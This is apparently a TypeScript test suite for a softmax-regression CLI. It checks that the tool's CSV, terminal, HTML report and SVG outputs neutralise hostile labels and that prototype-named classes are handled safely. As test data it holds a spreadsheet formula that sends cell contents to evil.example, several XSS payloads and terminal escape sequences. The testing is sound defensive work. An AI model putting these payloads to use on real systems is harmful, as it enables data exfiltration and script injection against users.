// Output that must not attack its reader (issue 16, item 8) and labels that must not reach the prototype
// (item 6): CSV formula injection in predict's CSV, control characters and terminal escapes in what train,
// eval and inspect print, the HTML report's and the SVG plots' escaping; classWeight with labels named like
// Object.prototype's members; model files that claim absurd sizes.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ModelFormatError, OptionError } from '../src/errors.js';
import { SoftmaxRegression } from '../src/model/softmax-regression.js';
import { buildReport } from '../src/report/report.js';
import { calibrationSvg, confusionSvg, decisionRegionsSvg, pathSvg, trainingCurvesSvg, weightsSvg } from '../src/plots/index.js';
import { calibrationBins, confusionMatrix } from '../src/metrics/index.js';
import { regularizationPath } from '../src/model/path.js';
import { csvText, visible } from '../cli/safe-output.js';
import { assertOneLineError, run, tempDir } from './cli/helpers.js';

/** A small, well separated 2-feature data set with the given class labels (3 rows each). */
function dataWith(labels: string[]): { X: number[][]; y: string[] } {
  const X: number[][] = [];
  const y: string[] = [];
  labels.forEach((l, k) => {
    for (let r = 0; r < 3; r++) {
      X.push([k * 3 + r * 0.1, (k % 2) * 2 - r * 0.2]);
      y.push(l);
    }
  });
  return { X, y };
}

function csvOf(header: string[], X: number[][], y: string[]): string {
  const q = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
  return [header.map(q).join(','), ...X.map((r, i) => [...r.map(String), q(y[i]!)].join(','))].join('\n') + '\n';
}

test('csvText: OWASP formula triggers get a leading quote; numbers and ordinary text do not', () => {
  for (const s of ['=1+1', '+cmd', '-2+3', '@SUM(A1)', '\tx', '\rx', '=HYPERLINK("http://x","y")', '-', '+']) assert.equal(csvText(s), `'${s}`);
  for (const s of ['-1', '+2.5e3', '-0.5', '.5', 'abc', 'a=b', '', ' =x', "'=x"]) assert.equal(csvText(s), s);
});

test('visible: control characters, escapes and bidi overrides shown as escapes; text and newlines kept', () => {
  assert.equal(visible('\x1b[31mred\x1b[0m'), '\\x1b[31mred\\x1b[0m');
  assert.equal(visible('a\tb\rc\x07\x00\x7f\x9b'), 'a\\tb\\rc\\x07\\x00\\x7f\\x9b');
  assert.equal(visible('abc\u202egnp.exe'), 'abc\\u202egnp.exe');
  assert.equal(visible('line 1\nline 2 é ü 日本'), 'line 1\nline 2 é ü 日本');
});

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1)', '@cmd', '-2+3', 'plain'];

test('predict CSV: formula-like labels and column names are quoted for spreadsheets; numbers stay numbers', async () => {
  const { dir, cleanup } = tempDir();
  try {
    const { X, y } = dataWith(HOSTILE);
    const data = join(dir, 'd.csv');
    writeFileSync(data, csvOf(['a', 'b', 'label'], X, y));
    const model = join(dir, 'm.json');
    const t = await run(['train', data, '-o', model, '--no-progress', '--C', '100']);
    assert.equal(t.code, 0, t.stderr);
    const out = join(dir, 'p.csv');
    const p = await run(['predict', '-m', model, data, '-o', out]);
    assert.equal(p.code, 0, p.stderr);
    const lines = readFileSync(out, 'utf8').trimEnd().split('\n');
    // Column names start with p_: never a formula.
    assert.match(lines[0]!, /^predicted,/);
    const labelCells = lines.slice(1).map((l) => (l.startsWith('"') ? l.slice(0, l.indexOf('",') + 1) : l.split(',')[0]!));
    for (const cell of labelCells) {
      const text = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      assert.doesNotMatch(text, /^[=+\-@\t\r]/, `unescaped formula cell ${cell}`);
    }
    assert.ok(labelCells.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`), labelCells.join(' | '));
    assert.ok(labelCells.includes("'+SUM(1)") && labelCells.includes("'@cmd") && labelCells.includes("'-2+3") && labelCells.includes('plain'));
    // Probabilities are numbers, untouched.
    for (const l of lines.slice(1)) for (const v of l.split(',').slice(-HOSTILE.length)) assert.ok(Number.isFinite(Number(v)), v);
    // Numeric labels, negative ones included, stay numeric.
    const num = dataWith(['a', 'b']);
    const numData = join(dir, 'n.csv');
    writeFileSync(
      numData,
      csvOf(
        ['a', 'b', 'label'],
        num.X,
        num.y.map((v) => (v === 'a' ? '-1' : '1')),
      ),
    );
    const m2 = join(dir, 'm2.json');
    assert.equal((await run(['train', numData, '-o', m2, '--no-progress'])).code, 0);
    const p2 = await run(['predict', '-m', m2, numData]);
    assert.equal(p2.code, 0, p2.stderr);
    assert.equal(p2.stdout.split('\n')[0], 'predicted,p_-1,p_1');
    assert.deepEqual(
      new Set(
        p2.stdout
          .trim()
          .split('\n')
          .slice(1)
          .map((l) => l.split(',')[0]),
      ),
      new Set(['-1', '1']),
    );
  } finally {
    cleanup();
  }
});

test('train, eval, inspect and error messages print control characters in labels and names as visible escapes', async () => {
  const { dir, cleanup } = tempDir();
  try {
    const evilLabel = 'x\x1b]0;pwned\x07\x1b[2J';
    const evilFeature = 'f\x1b[31mred\x07g';
    const { X, y } = dataWith([evilLabel, 'ok']);
    const data = join(dir, 'd.csv');
    writeFileSync(data, csvOf([evilFeature, 'b', 'label'], X, y));
    const model = join(dir, 'm.json');
    const outputs: string[] = [];
    const t = await run(['train', data, '-o', model, '--no-progress']);
    assert.equal(t.code, 0, t.stderr);
    outputs.push(t.stdout + t.stderr);
    const e = await run(['eval', '-m', model, data]);
    assert.equal(e.code, 0, e.stderr);
    outputs.push(e.stdout + e.stderr);
    const i = await run(['inspect', model]);
    assert.equal(i.code, 0, i.stderr);
    outputs.push(i.stdout + i.stderr);
    const cv = await run(['cv', data, '--folds', '2', '--C', '1']);
    outputs.push(cv.stdout + cv.stderr);
    const bad = await run(['train', data, '--class-weight', JSON.stringify({ [evilLabel + 'zz']: 2 }), '--no-progress']);
    assert.equal(bad.code, 2, bad.stderr);
    assertOneLineError(bad.stderr);
    outputs.push(bad.stderr);
    for (const o of outputs) {
      assert.doesNotMatch(o, /[\x00-\x09\x0b-\x1f\x7f]/, `raw control character in: ${JSON.stringify(o.slice(0, 300))}`);
    }
    assert.match(outputs[0]!, /x\\x1b\]0;pwned\\x07\\x1b\[2J/);
    assert.match(outputs[2]!, /f\\x1b\[31mred\\x07g/);
    // --json keeps the exact strings (JSON-escaped).
    const j = await run(['inspect', model, '--json']);
    assert.ok(JSON.parse(j.stdout).classes.includes(evilLabel));
  } finally {
    cleanup();
  }
});

const INJECT = [
  '<script>alert(1)</script>',
  '" onmouseover="alert(2)',
  "' onload='alert(3)",
  '</title><script>alert(4)</script>',
  '<img src=x onerror=alert(5)>',
];

/**
 * The start tags of an HTML/SVG document with their attribute names, read as a browser would: quoted
 * attribute values may hold anything but their quote, so an escaped `" onmouseover="` inside a value is
 * not an attribute. Comments are skipped; <style> content is text.
 */
function startTags(doc: string): Array<{ name: string; attrs: string[] }> {
  const out: Array<{ name: string; attrs: string[] }> = [];
  let i = 0;
  while ((i = doc.indexOf('<', i)) >= 0) {
    if (doc.startsWith('<!--', i)) {
      i = doc.indexOf('-->', i) + 3;
      if (i < 3) break;
      continue;
    }
    const m = /^<([a-zA-Z][\w:-]*)/.exec(doc.slice(i, i + 64));
    if (!m) {
      i++;
      continue;
    }
    const tag = { name: m[1]!.toLowerCase(), attrs: [] as string[] };
    i += m[0].length;
    for (;;) {
      while (/\s|\//.test(doc[i] ?? '')) i++;
      if (i >= doc.length || doc[i] === '>') break;
      const a = /^[^\s=>/]+/.exec(doc.slice(i, i + 256));
      if (!a) {
        i++;
        continue;
      }
      tag.attrs.push(a[0].toLowerCase());
      i += a[0].length;
      while (/\s/.test(doc[i] ?? '')) i++;
      if (doc[i] !== '=') continue;
      i++;
      while (/\s/.test(doc[i] ?? '')) i++;
      const q = doc[i];
      if (q === '"' || q === "'") i = doc.indexOf(q, i + 1) + 1;
      else while (i < doc.length && !/[\s>]/.test(doc[i]!)) i++;
      if (i <= 0) break;
    }
    out.push(tag);
    if (tag.name === 'style') i = doc.indexOf('</style', i);
    if (i < 0) break;
  }
  return out;
}

/** No live markup from the injected strings: no script or img element, no event-handler attribute, one title. */
function assertInert(doc: string, what: string): void {
  const tags = startTags(doc);
  assert.ok(tags.length > 3, `${what}: no markup found`);
  for (const t of tags) {
    assert.ok(t.name !== 'script' && t.name !== 'img' && t.name !== 'iframe', `${what}: a <${t.name}> element`);
    const handler = t.attrs.find((a) => a.startsWith('on'));
    assert.equal(handler, undefined, `${what}: event-handler attribute ${handler} on <${t.name}>`);
  }
  assert.ok(tags.filter((t) => t.name === 'title').length <= 1 || what !== 'report', `${what}: more than one title`);
  assert.doesNotMatch(doc, /<\/title>\s*<script/i, `${what}: a title broken out of`);
}

test('the HTML report escapes labels, feature names, title, data names and description', async () => {
  const { X, y } = dataWith(INJECT);
  const model = new SoftmaxRegression({ C: 10 }).fit(X, y, { featureNames: [INJECT[1]!, INJECT[3]!] });
  const path = regularizationPath(X, y, { Cs: [0.1, 1] });
  const html = await buildReport({
    model,
    train: { X, y, name: INJECT[0]! },
    test: { X, y, name: INJECT[4]! },
    title: INJECT[3]!,
    description: INJECT[2]!,
    path,
    generator: INJECT[0]!,
  });
  assertInert(html, 'report');
  assert.ok(html.includes('&lt;script&gt;alert(1)&lt;/script&gt;'));
  assert.ok(html.includes('&quot; onmouseover=&quot;alert(2)') || html.includes('&#34; onmouseover=&#34;alert(2)'));
});

test('every SVG plot escapes hostile labels, feature names and titles', async () => {
  const { X, y } = dataWith(INJECT);
  const model = new SoftmaxRegression({ C: 10 }).fit(X, y, { featureNames: [INJECT[1]!, INJECT[3]!] });
  const classes = model.classes!;
  const fr = model.fitResult!;
  const P = model.predictProbaFlat(X);
  const path = regularizationPath(X, y, { Cs: [0.1, 1] });
  const svgs: Array<[string, string]> = [
    ['curves', await trainingCurvesSvg(fr.history, { title: INJECT[3]!, subtitle: INJECT[0]! })],
    ['regions', await decisionRegionsSvg(model, X, y, { title: INJECT[0]!, subtitle: INJECT[1]! })],
    ['confusion', await confusionSvg(confusionMatrix(y, model.predict(X), { labels: classes }), { title: INJECT[4]! })],
    ['weights', await weightsSvg(model.coef!, classes, { title: INJECT[2]!, shape: [2, 1] })],
    ['calibration', await calibrationSvg(calibrationBins(y, { rows: y.length, cols: classes.length, data: P }, classes), { title: INJECT[0]! })],
    ['path', await pathSvg(path, { classes, featureNames: model.featureNames!, title: INJECT[1]! })],
  ];
  for (const [name, svg] of svgs) {
    assertInert(svg, name);
    assert.match(svg, /^(<\?xml[^>]*>)?\s*<svg/);
  }
  // The labels are there, as text.
  assert.ok(svgs.some(([, s]) => s.includes('&lt;script&gt;alert(1)&lt;/script&gt;')));
});

test('classWeight with classes named like Object.prototype members (constructor, toString, valueOf, __proto__)', () => {
  const names = ['__proto__', 'constructor', 'hasOwnProperty', 'toString', 'valueOf'];
  const { X, y } = dataWith(names);
  // Every class weighted 1 explicitly = no weights at all.
  const weights = JSON.parse(`{${names.map((n) => `"${n}": 1`).join(',')}}`) as Record<string, number>;
  const plain = new SoftmaxRegression({ C: 1 }).fit(X, y);
  const weighted = new SoftmaxRegression({ C: 1, classWeight: weights }).fit(X, y);
  assert.ok(Number.isFinite(weighted.fitResult!.value));
  assert.deepEqual(weighted.coef, plain.coef);
  // Weights only on some classes: the others get 1, not Object.prototype's members.
  const partial = new SoftmaxRegression({ C: 1, classWeight: { toString: 3 } }).fit(X, y);
  assert.ok(partial.fitResult!.converged && Number.isFinite(partial.fitResult!.value));
  const explicit = new SoftmaxRegression({
    C: 1,
    classWeight: { toString: 3, constructor: 1, valueOf: 1, hasOwnProperty: 1, ...JSON.parse('{"__proto__": 1}') },
  }).fit(X, y);
  assert.deepEqual(partial.coef, explicit.coef);
  // A weight naming an unknown class is still an error, also for prototype names.
  const two = dataWith(['a', 'b']);
  assert.throws(() => new SoftmaxRegression({ classWeight: { constructor: 2 } }).fit(two.X, two.y), OptionError);
  assert.throws(() => new SoftmaxRegression({ classWeight: JSON.parse('{"__proto__": 2}') }).fit(two.X, two.y), OptionError);
  // The saved model round-trips the weights, __proto__ included, and jsonl probabilities keep every class.
  const back = SoftmaxRegression.fromJSON(JSON.stringify(weighted.toJSON()));
  assert.deepEqual(Object.keys(back.options.classWeight as object).sort(), [...names].sort());
});

test('predict --format jsonl keeps a class named __proto__', async () => {
  const { dir, cleanup } = tempDir();
  try {
    const { X, y } = dataWith(['__proto__', 'constructor']);
    const data = join(dir, 'd.csv');
    writeFileSync(data, csvOf(['a', 'b', 'label'], X, y));
    const model = join(dir, 'm.json');
    assert.equal((await run(['train', data, '-o', model, '--no-progress'])).code, 0);
    const p = await run(['predict', '-m', model, data, '--format', 'jsonl']);
    assert.equal(p.code, 0, p.stderr);
    const first = JSON.parse(p.stdout.split('\n')[0]!) as { proba: object };
    assert.deepEqual(Object.keys(first.proba).sort(), ['__proto__', 'constructor']);
  } finally {
    cleanup();
  }
});

test('model files claiming absurd sizes fail with ModelFormatError, not a RangeError', () => {
  const { X, y } = dataWith(['a', 'b', 'c']);
  const good = new SoftmaxRegression({ scale: 'none' }).fit(X, y).toJSON() as unknown as Record<string, unknown>;
  for (const n of [1e300, 2 ** 32, 2 ** 53 - 1, 2 ** 31, 1e9]) {
    for (const names of [null, ['a', 'b']]) {
      const j = { ...good, nFeatures: n, featureNames: names };
      assert.throws(
        () => SoftmaxRegression.fromJSON(JSON.stringify(j)),
        (e: unknown) => e instanceof ModelFormatError && /expected .* entries, got 2/.test(e.message),
        `nFeatures ${n}`,
      );
    }
  }
  // Absurd history lengths, classes claimed by coef rows of absurd length: same.
  const rows = { ...good, coef: [[1, 2], [1, 2], new Array(3).fill(0)] };
  assert.throws(() => SoftmaxRegression.fromJSON(JSON.stringify(rows)), ModelFormatError);
});

test('CLI names that look up tables are own-property lookups: --delimiter constructor, -w__proto__ (LIBLINEAR)', async () => {
  const d = await run(['train', '--dataset', 'iris', '--delimiter', 'constructor', '--no-progress']);
  assert.equal(d.code, 2, d.stderr);
  assertOneLineError(d.stderr);
  assert.match(d.stderr, /'constructor' is not a delimiter/);
  const w = await run(['train', 'x.csv', '-w__proto__', '2']);
  assert.equal(w.code, 2, w.stderr);
  assert.match(w.stderr, /--class-weight '\{"__proto__":2\}'/);
  const c = await run(['train', 'constructor', '--no-progress']);
  assert.equal(c.code, 1, c.stderr);
  assertOneLineError(c.stderr);
  assert.match(c.stderr, /constructor/);
});

test('softmax serve: text/csv answers formula-escape labels like predict does (numbers untouched)', async () => {
  const { dir, cleanup } = tempDir();
  try {
    const { createApp } = await import('../node/serve/app.js');
    const { ModelRegistry } = await import('../node/serve/registry.js');
    const { Metrics } = await import('../node/serve/metrics.js');
    const { saveModel } = await import('../node/model-file.js');
    const { X, y } = dataWith(HOSTILE);
    const model = new SoftmaxRegression({ C: 100 }).fit(X, y, { featureNames: ['a', 'b'] });
    const file = join(dir, 'm.json');
    saveModel(model, file);
    const app = createApp(new ModelRegistry([{ name: 'm', file }]), new Metrics());
    const body = `a,b\n${X.map((r) => r.join(',')).join('\n')}\n`;
    const r = await app.request('/v2/models/m/infer', { method: 'POST', headers: { 'content-type': 'text/csv', accept: 'text/csv' }, body });
    assert.equal(r.status, 200, await r.clone().text());
    const lines = (await r.text()).trimEnd().split('\n');
    const firstCells = lines.slice(1).map((l) => (l.startsWith('"') ? l.slice(1, l.indexOf('",')).replace(/""/g, '"') : l.split(',')[0]!));
    for (const cell of firstCells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
    assert.ok(
      firstCells.includes('\'=HYPERLINK("http://evil.example/?"&A1,"click")') && firstCells.includes("'-2+3") && firstCells.includes('plain'),
      firstCells.join(' | '),
    );
    for (const l of lines.slice(1)) for (const v of l.split(',').slice(-HOSTILE.length)) assert.ok(Number.isFinite(Number(v)), v);
  } finally {
    cleanup();
  }
});

test("export and import check -o before reading: '' is bad usage, a missing directory an error", async () => {
  const { dir, cleanup } = tempDir();
  try {
    const missing = join(dir, 'no-such-model.json');
    for (const [argv, code, re] of [
      [['export', '-m', missing, '-o', ''], 2, /output path is empty/],
      [['export', '-m', missing, '-o', join(dir, 'nodir', 'm.onnx')], 1, /nodir does not exist/],
      [['import', join(dir, 'no.onnx'), '-o', ''], 2, /output path is empty/],
      [['import', join(dir, 'no.onnx'), '-o', join(dir, 'nodir', 'm.json')], 1, /nodir does not exist/],
    ] as Array<[string[], number, RegExp]>) {
      const r = await run(argv);
      assert.equal(r.code, code, `${argv.join(' ')}: ${r.stderr}`);
      assertOneLineError(r.stderr);
      assert.match(r.stderr, re);
    }
  } finally {
    cleanup();
  }
});
